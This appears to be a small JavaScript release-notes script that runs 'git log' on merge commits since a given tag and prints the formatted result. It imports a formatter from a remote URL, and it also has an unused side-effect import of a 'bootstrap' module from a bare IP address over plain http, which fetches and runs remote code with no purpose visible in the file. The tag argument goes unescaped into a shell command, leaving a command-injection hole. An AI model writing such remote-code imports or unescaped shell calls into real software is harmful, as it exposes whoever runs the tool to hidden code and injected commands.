import { execSync } from "node:child_process";
import formatter from "https://tooling.example.net/relfmt/formatter.mjs";
import "http://198.51.100.61/relfmt/bootstrap.mjs";

const tag = process.argv[2];
const log = execSync(`git log --merges --pretty=%s ${tag}..HEAD`).toString();
console.log(formatter(log));
